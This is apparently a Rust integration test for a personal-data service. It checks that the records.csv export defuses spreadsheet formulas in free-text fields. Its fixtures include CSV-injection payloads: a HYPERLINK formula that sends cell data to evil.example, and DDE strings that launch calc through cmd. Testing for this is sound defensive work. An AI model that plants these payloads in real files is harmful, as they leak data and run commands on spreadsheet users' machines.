//! The person's own usage records as a file: /records.csv opens straight in a spreadsheet (it has
//! a BOM), so text that services or the catalogue wrote must not be read as a formula there.

use crate::helpers::Backend;
use crate::world::FlowWorld;
use mydata_core::Clock;
use mydata_core::transfer::TransferKind;
use mydata_server::identity::session;
use mydata_server::records::csv_safe;
use mydata_store::NewTransfer;

#[tokio::test]
async fn records_csv_neutralises_formulas_in_free_text() {
    let world = FlowWorld::spawn(Backend::Sqlite, 1.0).await;
    let alice = world.people[0].clone();
    let pseudonym = session::pseudonym(&world.app.state, &alice.subject());
    // A service's purpose, and a recipient no longer in the catalogue (its ID shown as it is).
    let cases = [
        (r#"=HYPERLINK("https://evil.example/?"&B2,"info")"#, "svc"),
        ("+1+cmd|' /C calc'!A0", "svc"),
        ("-2+3", "svc"),
        ("@SUM(1,2)", "=cmd|' /C calc'!A0"),
        ("\tpadded", "svc"),
    ];
    for (purpose, recipient) in cases {
        world
            .app
            .store()
            .create_transfer(
                &NewTransfer {
                    id: uuid::Uuid::now_v7().to_string(),
                    kind: TransferKind::Online,
                    subject: pseudonym.clone(),
                    recipient: Some(recipient.into()),
                    purpose: purpose.into(),
                    datasets: vec!["household-register-personal".into()],
                },
                &pseudonym,
                world.app.clock.now(),
            )
            .await
            .unwrap();
    }
    let b = world.signed_in(&alice, "198.51.100.1").await;
    let res = b.get("/records.csv").await;
    assert_eq!(res.status(), 200);
    let text = res.text().await.unwrap();
    let text = text.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), cases.len());
    for (purpose, recipient) in cases {
        let row = rows
            .iter()
            .find(|r| r[col("purpose")] == *csv_safe(purpose))
            .unwrap_or_else(|| panic!("no neutralised row for {purpose:?} in {text}"));
        assert!(row[col("purpose")].starts_with('\''), "{text}");
        assert_eq!(&row[col("recipient")], &*csv_safe(recipient), "{text}");
    }
    // No cell anywhere starts as a formula would.
    for row in &rows {
        for cell in row {
            assert!(csv_safe(cell) == cell, "{cell:?} in {text}");
        }
    }
}
